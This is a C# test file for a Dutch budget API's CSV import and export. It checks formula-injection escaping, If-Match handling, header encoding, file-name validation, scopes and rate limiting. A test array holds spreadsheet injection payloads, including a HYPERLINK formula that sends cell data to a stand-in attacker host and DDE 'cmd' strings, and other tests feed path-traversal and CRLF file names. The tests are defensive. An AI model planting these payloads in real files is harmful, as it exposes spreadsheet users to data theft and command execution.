using System.Globalization;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using BudgetApi.Domein;
using BudgetApi.Laden;
using BudgetApi.Opslag;
using BudgetApi.Tests.Infrastructuur;
using CsvHelper;
using CsvHelper.Configuration;
using Microsoft.Extensions.DependencyInjection;

using static BudgetApi.Tests.Infrastructuur.Antwoorden;

namespace BudgetApi.Tests.Api;

/// <summary>
/// What a careless or hostile importer can do to everyone who reads (issue 18): formula text in the CSV, a row split by a bare line
/// end, an answer of 5xx after the import was stored, a stand changed by another format without If-Match, a change of only a name
/// that was taken for 'ongewijzigd', a file name with a line end, a text too long for Excel, and a scope in 'scp'.
/// </summary>
public sealed class ImportVeiligheidTests : IDisposable
{
    private readonly TijdelijkeMap _map = new();
    private readonly ImportFactory _factory;
    private readonly HttpClient _client;

    public ImportVeiligheidTests()
    {
        _map.KopieVanData();
        _factory = new ImportFactory(_map);
        _client = _factory.CreateClient();
    }

    public void Dispose()
    {
        _client.Dispose();
        _factory.Dispose();
        _map.Dispose();
    }

    /// <summary>
    /// Texts a spreadsheet would run, or that break a naive CSV: one for every kind the issue names, and the escape itself. (A line end
    /// in a text is refused by the readers, so CR and LF inside a field are covered by CsvTests, on the writer alone.)
    /// </summary>
    private static readonly string[] Vijandig =
    [
        "=HYPERLINK(\"https://aanvaller.example/?d=\"&A1;\"klik\")",
        "+cmd|' /C calc'!A0",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1 na een tab",
        "aanhalings\"teken, komma; puntkomma",
        "'=al met een apostrof",
        "''-1 twee apostroffen",
        "-5",
    ];

    /// <summary>An import by an authorised importer unless another token is given.</summary>
    private Task<HttpResponseMessage> Importeer(string inhoud, string query = "", string? ifMatch = null, string? token = null) =>
        _client.Importeer(inhoud, token ?? Tokens.Maak(), query, ifMatch);


    private string Versie => _factory.Services.GetRequiredService<Gegevensbron>().Huidig!.Versie;

    private IReadOnlyList<string> Importbestanden => Directory.Exists(_map["var/standen"])
        ? Directory.EnumerateFiles(_map["var/standen"]).Select(p => Path.GetFileName(p)).Where(n => n != Standbestandsmappen.Slotbestand).Order().ToList() : [];

    private async Task<string> Etag(string stand) => (await _client.GetLijst($"/v1/standen/{stand}")).Gegevens.Single()!.Tekst("etag");

    /// <summary>The export of JenV's ontwerpbegroting 2026, parsed: header and records.</summary>
    private async Task<(string[] Kop, List<string[]> Rijen)> Ontwerp()
    {
        var tekst = Encoding.UTF8.GetString(await _client.GetByteArrayAsync(Proefstanden.ExportUrl)).TrimStart('\uFEFF');
        return Lees(tekst);
    }

    private static (string[] Kop, List<string[]> Rijen) Lees(string tekst)
    {
        using var parser = new CsvParser(new StringReader(tekst), new CsvConfiguration(CultureInfo.InvariantCulture));
        parser.Read();
        var kop = parser.Record!;
        var rijen = new List<string[]>();
        while (parser.Read()) rijen.Add(parser.Record!);
        return (kop, rijen);
    }

    /// <summary>Every field quoted: the file is valid whatever the text.</summary>
    private static string Schrijf(string[] kop, IEnumerable<string[]> rijen) =>
        string.Concat(new[] { kop }.Concat(rijen).Select(r => string.Join(',', r.Select(v => "\"" + v.Replace("\"", "\"\"") + "\"")) + "\r\n"));

    /// <summary>
    /// The ontwerpbegroting as the 2e suppletoire, written as our own export writes text (a formula escaped with an apostrophe, which
    /// the import takes off again: docs/standbestanden.md), with hostile text in every text field the own format keeps: artikel 31's name, and
    /// under it three levels of parts whose descriptions (and so path steps) and table titles are hostile.
    /// </summary>
    private async Task<string> VijandigeStand()
    {
        var (kop, rijen) = await Ontwerp();
        int K(string naam) => Array.IndexOf(kop, naam);
        var uit = new List<string[]>();
        var artikel31 = new List<string[]>();
        foreach (var rij in rijen)
        {
            var r = rij.ToArray();
            r[K("fase")] = "2e-suppletoire";
            if (r[K("soort")] == "uitgaven" && r[K("artikel")] == "31" && r[K("regelsoort")] == "artikel")
            {
                r[K("omschrijving")] = Formule.Ontwapen(Vijandig[0]);
                r[K("bronTabel")] = Formule.Ontwapen(Vijandig[5]);
                artikel31.Add(r);
            }
            uit.Add(r);
        }
        var niveaus = new[] { "artikelonderdeel", "financieel-instrument", "uitsplitsing" };
        foreach (var jaarrij in artikel31)
        {
            var pad = new List<string>();
            for (var i = 1; i < Vijandig.Length; i++)
            {
                // Three levels deep, each level a hostile description: the deeper lines' paths are hostile step by step.
                var niveau = Math.Min(pad.Count, niveaus.Length - 1);
                var r = jaarrij.ToArray();
                r[K("regelsoort")] = niveaus[niveau];
                r[K("pad")] = Formule.OntwapenPad(string.Join(" > ", pad));
                r[K("omschrijving")] = Formule.Ontwapen(Vijandig[i]);
                r[K("bronTabel")] = Formule.Ontwapen(Vijandig[(i + 3) % Vijandig.Length]);
                r[K("bedrag")] = i.ToString(CultureInfo.InvariantCulture);
                uit.Add(r);
                if (pad.Count < 2) pad.Add(Vijandig[i]);
            }
        }
        return Schrijf(kop, uit);
    }

    private static readonly string[] Tekstkolommen = ["begroting", "hoofdstuk", "fase", "soort", "regelsoort", "pad", "omschrijving", "categorie", "bronTabel", "bronBestand"];

    private static bool IsBedrag(string veld) => veld.Length == 0 || long.TryParse(veld, NumberStyles.AllowLeadingSign, CultureInfo.InvariantCulture, out var _);

    private const string ExportVanDeTweede = "/v1/bedragen?begroting=JenV&begrotingsjaar=2026&fase=2e-suppletoire&paginaGrootte=1000&formaat=csv";

    [Fact]
    public async Task Een_export_met_vijandige_tekst_is_RFC_4180_zonder_formules_en_komt_na_import_byte_voor_byte_terug()
    {
        await Json(await Importeer(await VijandigeStand()), HttpStatusCode.Created);

        var export = await _client.GetByteArrayAsync(ExportVanDeTweede);
        var tekst = Encoding.UTF8.GetString(export).TrimStart('\uFEFF');
        var (kop, rijen) = Lees(tekst);

        // One record per row: the JSON has as many rows as the CSV has records, whatever line ends the text holds.
        var (json, _) = await _client.GetLijst(ExportVanDeTweede.Replace("&formaat=csv", ""));
        rijen.Should().HaveCount(json.Count).And.OnlyContain(r => r.Length == kop.Length);
        // Every hostile text is served in the JSON as imported, and in the CSV never as a formula: a text field starts with no formula
        // character unless it is a plain number; a number column is a number.
        json.Select(r => r!.Tekst("omschrijving")).Should().Contain(Vijandig);
        var tekstkolommen = Tekstkolommen.Select(k => Array.IndexOf(kop, k)).ToList();
        foreach (var rij in rijen)
        {
            foreach (var k in tekstkolommen)
            {
                var veld = rij[k];
                if (veld.Length == 0 || double.TryParse(veld, NumberStyles.AllowLeadingSign, CultureInfo.InvariantCulture, out _)) continue;
                "=+-@\t\r".Should().NotContain(veld[0].ToString(), $"the field '{veld}' of column {kop[k]} must not start a formula");
                if (kop[k] != "pad") continue;
                foreach (var stap in veld.Split(" > ").Where(s => !double.TryParse(s, NumberStyles.AllowLeadingSign, CultureInfo.InvariantCulture, out _)))
                    "=+-@\t\r".Should().NotContain(stap[0].ToString(), $"each step of a path is escaped ({veld})");
            }
        }
        rijen.Should().Contain(r => r[Array.IndexOf(kop, "omschrijving")] == "'" + Vijandig[0]);
        rijen.Should().Contain(r => r[Array.IndexOf(kop, "omschrijving")] == "-5", "a text that is a plain number is left as it is");
        rijen.Select(r => r[Array.IndexOf(kop, "bedrag")]).Where(b => !IsBedrag(b)).Should().BeEmpty(
            "amounts stay numbers, never escaped");
        // Every field with a quote, a comma, a semicolon or any line end is quoted (RFC 4180 §2.6), bare CR and LF included.
        tekst.Should().Contain("\"'\t=1+1 na een tab\"").And.Contain("\"aanhalings\"\"teken, komma; puntkomma\"");

        // The export imported again is the same stand: the escaping is undone exactly, nothing is stored.
        var bestanden = Importbestanden;
        var nogmaals = await Json(await Importeer(tekst), HttpStatusCode.OK);
        nogmaals.Tekst("uitkomst").Should().Be("ongewijzigd");
        Importbestanden.Should().Equal(bestanden);

        // Into a service that never saw it: a new stand, and its export is the first one byte for byte, but for where each figure was
        // read (bronBestand, bronRegel: the file imported here, which is the export itself).
        using var andereMap = new TijdelijkeMap();
        andereMap.KopieVanData();
        using var andere = new ImportFactory(andereMap);
        using var client = andere.CreateClient();
        using var verzoek = new HttpRequestMessage(HttpMethod.Post, "/v1/standen") { Content = new ByteArrayContent(export) };
        verzoek.Headers.Authorization = new AuthenticationHeaderValue("Bearer", Tokens.Maak());
        (await client.SendAsync(verzoek)).StatusCode.Should().Be(HttpStatusCode.Created);
        var tweede = await client.GetByteArrayAsync(ExportVanDeTweede);

        ZonderHerkomst(tweede).Should().Be(ZonderHerkomst(export));
        tweede.Length.Should().BeGreaterThan(0);
    }

    /// <summary>The raw text of each record, without its last two fields (bronBestand, bronRegel: a file name and a number, never quoted).</summary>
    private static string ZonderHerkomst(byte[] export)
    {
        var tekst = Encoding.UTF8.GetString(export);
        using var parser = new CsvParser(new StringReader(tekst), new CsvConfiguration(CultureInfo.InvariantCulture));
        var uit = new StringBuilder();
        while (parser.Read())
        {
            var velden = parser.Record!;
            velden[^2..].Should().NotContain(v => v.Contains(',') || v.Contains('"'));
            var staart = "," + velden[^2] + "," + velden[^1] + "\r\n";
            parser.RawRecord.Should().EndWith(staart);
            uit.Append(parser.RawRecord[..^staart.Length]).Append('\n');
        }
        return uit.ToString();
    }

    [Fact]
    public async Task Een_ander_formaat_voor_een_bestaande_stand_vraagt_if_match()
    {
        // The project's own format for the document's stand VI-2026-ontwerpbegroting: it would replace the document's figures.
        var (kop, rijen) = await Ontwerp();
        int K(string naam) => Array.IndexOf(kop, naam);
        foreach (var r in rijen.Where(r => r[K("soort")] == "uitgaven" && r[K("regelsoort")] == "artikel" && r[K("artikel")] == "31")) r[K("bedrag")] = "1";
        var bestand = Schrijf(kop, rijen);
        var etag = await Etag("VI-2026-ontwerpbegroting");
        var versie = Versie;

        var conflict = await (await Importeer(bestand)).AlsProbleem(HttpStatusCode.Conflict);
        conflict.Tekst("detail").Should().Contain("VI-2026-ontwerpbegroting").And.Contain(etag);
        var verouderd = await (await Importeer(bestand, ifMatch: "\"verouderd\"")).AlsProbleem(HttpStatusCode.PreconditionFailed);
        verouderd.Tekst("detail").Should().Contain($"nu {etag}");
        Versie.Should().Be(versie);
        Importbestanden.Should().BeEmpty();
        (await _client.GetLijst("/v1/totalen?begroting=JenV&fase=ontwerpbegroting&vanJaar=2026&totJaar=2026")).Gegevens.Single()!.Bedrag("bedrag")
            .Should().Be(Proefstanden.TotaalOntwerp, "nothing changed without If-Match");

        var body = await Json(await Importeer(bestand, ifMatch: etag), HttpStatusCode.OK);
        body["standen"]![0]!.Tekst("uitkomst").Should().Be("aangevuld");
        body["standen"]![0]!.Tekst("etag").Should().NotBe(etag);
    }

    [Fact]
    public async Task Alleen_een_andere_naam_of_categorie_is_een_wijziging_met_een_nieuwe_etag()
    {
        var (kop, rijen) = await Ontwerp();
        int K(string naam) => Array.IndexOf(kop, naam);
        foreach (var r in rijen) r[K("fase")] = "1e-suppletoire";
        await Json(await Importeer(Schrijf(kop, rijen)), HttpStatusCode.Created);
        var etag = await Etag(Proefstanden.Stand);

        foreach (var (kolom, waarde) in new[] { ("omschrijving", "Nationale Politie, anders genoemd"), ("categorie", "niet-beleidsartikel") })
        {
            var gewijzigd = rijen.Select(r => r.ToArray()).ToList();
            foreach (var r in gewijzigd.Where(r => r[K("artikel")] == "31" && r[K("regelsoort")] == "artikel")) r[K(kolom)] = waarde;
            var bestand = Schrijf(kop, gewijzigd);

            (await Importeer(bestand)).StatusCode.Should().Be(HttpStatusCode.Conflict, $"a new {kolom} changes the stand");
            var body = await Json(await Importeer(bestand, ifMatch: etag), HttpStatusCode.OK);
            body["standen"]![0]!.Tekst("uitkomst").Should().Be("vervangen", kolom);
            var nieuweEtag = await Etag(Proefstanden.Stand);
            nieuweEtag.Should().NotBe(etag, $"the etag covers the {kolom}");
            body["standen"]![0]!.Tekst("etag").Should().Be(nieuweEtag);
            var (artikelen, _) = await _client.GetLijst("/v1/bedragen?begroting=JenV&begrotingsjaar=2026&fase=1e-suppletoire&artikel=31&regelsoort=artikel&soort=uitgaven");
            artikelen.Should().OnlyContain(a => a![kolom]!.GetValue<string>() == waarde);
            etag = nieuweEtag;
            rijen = gewijzigd;
        }
    }

    [Fact]
    public async Task Een_import_met_een_hoofdstuk_buiten_ASCII_geeft_nooit_een_5xx_na_het_opslaan()
    {
        // The Location header is made before the commit, percent-encoded: a hoofdstuk with any character gives a valid header. Whatever
        // the readers make of such codes (refused with 400, or a new stand with 201), an answer of 5xx never comes after a stored change.
        var (kop, rijen) = await Ontwerp();
        int K(string naam) => Array.IndexOf(kop, naam);
        foreach (var hoofdstuk in new[] { "VІ", "Ⅵ", "vi é", "<b>" })
        {
            var versie = Versie;
            var bestanden = Importbestanden;
            var anders = rijen.Select(r => { var a = r.ToArray(); a[K("hoofdstuk")] = hoofdstuk; a[K("fase")] = "slotwet"; return a; });

            var antwoord = await Importeer(Schrijf(kop, anders));

            var tekst = await antwoord.Content.ReadAsStringAsync();
            ((int)antwoord.StatusCode).Should().BeOneOf([201, 400], $"{hoofdstuk}: {tekst}");
            if (antwoord.StatusCode != HttpStatusCode.Created)
            {
                Versie.Should().Be(versie, $"{hoofdstuk}: refused, nothing stored");
                Importbestanden.Should().Equal(bestanden, $"{hoofdstuk}: refused, nothing stored");
                continue;
            }
            var locatie = antwoord.Headers.Location!.OriginalString;
            locatie.Should().MatchRegex("^[\\x21-\\x7e]+$", "a header value is visible ASCII");
            locatie.Should().Be("/v1/standen/" + Uri.EscapeDataString($"{hoofdstuk}-2026-slotwet"));
            (await _client.GetLijst(locatie)).Gegevens.Single()!.Tekst("id").Should().Be($"{hoofdstuk}-2026-slotwet");
        }
    }

    [Theory]
    [InlineData("nl%0A")]
    [InlineData("nl%0D%0A")]
    [InlineData("a%0Ab.csv")]
    [InlineData("..%2Fx.csv")]
    public async Task Een_bestandsnaam_met_een_regeleinde_wordt_geweigerd(string naam)
    {
        var probleem = await (await Importeer(Proefstanden.EersteSuppletoire(Encoding.UTF8.GetString(await _client.GetByteArrayAsync(Proefstanden.ExportUrl))),
            "?bestandsnaam=" + naam)).AlsProbleem(HttpStatusCode.BadRequest);
        probleem.OngeldigeParameters().Should().Contain("bestandsnaam");
        Importbestanden.Should().BeEmpty();
    }

    [Fact]
    public async Task Een_te_lange_tekst_wordt_geweigerd_met_zijn_regel()
    {
        var (kop, rijen) = await Ontwerp();
        int K(string naam) => Array.IndexOf(kop, naam);
        foreach (var r in rijen) r[K("fase")] = "1e-suppletoire";
        var regel = rijen.FindIndex(r => r[K("regelsoort")] == "artikel");
        var artikel = rijen[regel][K("artikel")];
        foreach (var r in rijen.Where(r => r[K("artikel")] == artikel && r[K("regelsoort")] == "artikel" && r[K("soort")] == rijen[regel][K("soort")]))
            r[K("omschrijving")] = new string('x', BudgetApi.Laden.Tekstlengte.Maximum + 1);

        var probleem = await (await Importeer(Schrijf(kop, rijen))).AlsProbleem(HttpStatusCode.BadRequest);

        var eerste = probleem["problemen"]!.AsArray()[0]!;
        eerste["regel"]!.GetValue<int>().Should().Be(regel + 2, "the header is line 1");
        eerste.Tekst("melding").Should().Contain($"hoogstens {BudgetApi.Laden.Tekstlengte.Maximum}");
        Importbestanden.Should().BeEmpty();
    }

    [Theory]
    [InlineData("budget.importeren")]
    [InlineData("lezen budget.importeren")]
    public async Task De_scope_in_scp_geeft_ook_toegang(string scp)
    {
        var bestand = Proefstanden.EersteSuppletoire(Encoding.UTF8.GetString(await _client.GetByteArrayAsync(Proefstanden.ExportUrl)));
        await Json(await Importeer(bestand, token: Tokens.Maak(rol: null, scp: scp)), HttpStatusCode.Created);
    }

    [Fact]
    public async Task Een_andere_scope_in_scp_geeft_geen_toegang()
    {
        var bestand = Proefstanden.EersteSuppletoire(Encoding.UTF8.GetString(await _client.GetByteArrayAsync(Proefstanden.ExportUrl)));
        (await Importeer(bestand, token: Tokens.Maak(rol: null, scp: "budget.lezen"))).StatusCode.Should().Be(HttpStatusCode.Forbidden);
    }

    [Fact]
    public async Task Mislukte_aanmeldingen_tellen_mee_voor_de_limiet()
    {
        await using var factory = new BeperkteFactory(_map);
        using var client = factory.CreateClient();
        var statussen = new List<int>();
        for (var i = 0; i < 5; i++)
        {
            using var verzoek = new HttpRequestMessage(HttpMethod.Post, "/v1/standen") { Content = new StringContent("x", Encoding.UTF8, "text/csv") };
            verzoek.Headers.Authorization = new AuthenticationHeaderValue("Bearer", i % 2 == 0 ? "geen-token" : Tokens.Maak(andereSleutel: true));
            statussen.Add((int)(await client.SendAsync(verzoek)).StatusCode);
        }
        statussen.Should().Equal(401, 401, 401, 429, 429);
    }

    private sealed class BeperkteFactory(TijdelijkeMap map) : Microsoft.AspNetCore.Mvc.Testing.WebApplicationFactory<Program>
    {
        protected override void ConfigureWebHost(Microsoft.AspNetCore.Hosting.IWebHostBuilder builder)
        {
            builder.UseSetting("Budget:DataMap", Path.Combine(map.Pad, "data"));
            builder.UseSetting("Budget:DatabasePad", map["var/budget.db"]);
            builder.UseSetting("Budget:ImportMap", map["var/standen"]);
            builder.UseSetting("Budget:Snelheidslimiet:ImportPerMinuut", "3");
            foreach (var (sleutel, waarde) in Tokens.Instellingen()) builder.UseSetting(sleutel, waarde);
        }
    }
}
